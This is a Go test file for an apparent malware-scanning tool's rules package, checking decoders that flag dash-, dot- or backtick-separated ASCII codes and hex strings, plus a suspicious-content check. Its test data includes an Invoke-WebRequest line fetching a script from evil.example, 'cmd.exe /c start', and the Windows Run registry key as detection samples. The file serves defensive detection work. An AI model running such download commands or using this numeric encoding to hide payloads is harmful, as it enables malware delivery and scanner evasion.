package rules

import (
	"strconv"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/scan-io-git/modscan/pkg/shared/config"
)

const (
	encodedPowershell = "80-111-119-101-114-115-104-101-108-108-46"
	encodedHello      = "72-101-108-108-111-32-119-111-114-108-100"
	hexPowershell     = "706f7765727368656c6c"
)

func TestNumericDecoderIsEncoded(t *testing.T) {
	d := NewNumericDecoder(10)

	tests := []struct {
		name    string
		literal string
		want    bool
	}{
		{name: "dash separated", literal: encodedPowershell, want: true},
		{name: "dot separated", literal: "80.111.119.101.114.115.104.101.108.108.46", want: true},
		{name: "backtick separated", literal: "80`111`119`101`114`115`104`101`108`108`46", want: true},
		{name: "too few separators", literal: "80-111-119-101", want: false},
		{name: "mixed separators", literal: "80-111.119-101-114-115-104-101-108-108-46", want: false},
		{name: "single digit segment", literal: "8-111-119-101-114-115-104-101-108-108-46", want: false},
		{name: "blank", literal: "   ", want: false},
		{name: "plain text", literal: "hello world", want: false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			assert.Equal(t, tt.want, d.IsEncoded(tt.literal))
		})
	}
}

func TestDecodeNumeric(t *testing.T) {
	tests := []struct {
		name    string
		encoded string
		want    string
		ok      bool
	}{
		{name: "dash", encoded: "72-105", want: "Hi", ok: true},
		{name: "dot", encoded: "72.105", want: "Hi", ok: true},
		{name: "backtick", encoded: "72`105", want: "Hi", ok: true},
		{name: "malformed segment", encoded: "72-abc-105", ok: false},
		{name: "out of ascii range", encoded: "72-200", ok: false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, ok := DecodeNumeric(tt.encoded)
			assert.Equal(t, tt.ok, ok)
			if tt.ok {
				assert.Equal(t, tt.want, got)
			}
		})
	}
}

func encodeNumeric(s, sep string) string {
	parts := make([]string, 0, len(s))
	for _, c := range []byte(s) {
		parts = append(parts, strconv.Itoa(int(c)))
	}
	return strings.Join(parts, sep)
}

func TestNumericRoundTrip(t *testing.T) {
	minSeparators := config.DefaultScanConfig().MinimumEncodedStringLength
	require.Equal(t, 10, minSeparators)
	d := NewNumericDecoder(minSeparators)

	plain := []string{
		"powershell.",
		"cmd.exe /c start",
		"Invoke-WebRequest http://evil.example/x.ps1",
		"~AppData\\Roaming",
	}
	for _, sep := range []string{"-", ".", "`"} {
		for _, text := range plain {
			t.Run(strconv.Quote(sep)+" "+text, func(t *testing.T) {
				encoded := encodeNumeric(text, sep)
				require.GreaterOrEqual(t, strings.Count(encoded, sep)+1, 11)
				assert.True(t, d.IsEncoded(encoded))

				decoded, ok := DecodeNumeric(encoded)
				require.True(t, ok)
				assert.Equal(t, text, decoded)
			})
		}

		t.Run(strconv.Quote(sep)+" ten segments are too short", func(t *testing.T) {
			encoded := encodeNumeric("powershell", sep)
			require.Equal(t, 10, strings.Count(encoded, sep)+1)
			assert.False(t, d.IsEncoded(encoded))
		})
	}
}

func TestNumericRejectsBadSegments(t *testing.T) {
	d := NewNumericDecoder(10)

	tests := []struct {
		name      string
		encoded   string
		isEncoded bool
	}{
		{name: "segment above ascii", encoded: "80-111-119-999-114-115-104-101-108-108-46", isEncoded: true},
		{name: "segment of 128", encoded: "80.111.119.101.114.115.104.101.108.108.128", isEncoded: true},
		{name: "empty segment", encoded: "80-111-119--114-115-104-101-108-108-46", isEncoded: false},
		{name: "trailing separator", encoded: "80`111`119`101`114`115`104`101`108`108`46`", isEncoded: false},
		{name: "non numeric segment", encoded: "80-111-119-1a1-114-115-104-101-108-108-46", isEncoded: false},
		{name: "four digit segment", encoded: "80-111-119-1010-114-115-104-101-108-108-46", isEncoded: false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			assert.Equal(t, tt.isEncoded, d.IsEncoded(tt.encoded))
			_, ok := DecodeNumeric(tt.encoded)
			assert.False(t, ok)
		})
	}
}

func TestHexDecoding(t *testing.T) {
	assert.True(t, IsHexEncoded(hexPowershell))
	assert.False(t, IsHexEncoded(hexPowershell[:len(hexPowershell)-1]), "odd length")
	assert.False(t, IsHexEncoded("706f77"), "shorter than 16 characters")
	assert.False(t, IsHexEncoded("zz6f7765727368656c6c"), "non-hex characters")

	decoded, ok := DecodeHex(hexPowershell)
	assert.True(t, ok)
	assert.Equal(t, "powershell", decoded)

	_, ok = DecodeHex("zz")
	assert.False(t, ok)
}

func TestContainsSuspiciousContent(t *testing.T) {
	assert.True(t, ContainsSuspiciousContent("Powershell."))
	assert.True(t, ContainsSuspiciousContent(`Software\Microsoft\Windows\CurrentVersion\Run`))
	assert.False(t, ContainsSuspiciousContent("Hello world"))
	assert.False(t, ContainsSuspiciousContent("  "))
}
